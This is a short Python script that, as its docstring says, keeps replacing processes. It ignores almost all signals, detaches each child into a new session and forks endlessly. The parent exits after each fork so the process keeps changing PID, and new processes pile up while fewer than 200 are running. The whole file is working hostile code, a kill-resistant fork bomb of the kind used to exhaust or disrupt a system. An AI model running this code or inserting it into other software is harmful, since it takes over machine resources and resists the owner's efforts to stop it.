"""Keep replacing processes: each of up to 200 ignores signals, loses its parent and forks again for ever."""

import os
import signal
import time


def multiply() -> None:
    for number in set(signal.valid_signals()) - {signal.SIGKILL, signal.SIGSTOP}:
        signal.signal(number, signal.SIG_IGN)
    while True:
        alive = sum(name.isdigit() for name in os.listdir("/proc"))
        if alive < 200 and os.fork() == 0:
            os.setsid()
        elif alive >= 200:
            time.sleep(0.001)
            if os.fork() != 0:
                os._exit(0)


if __name__ == "__main__":
    if os.fork() == 0:
        os.setsid()
        multiply()
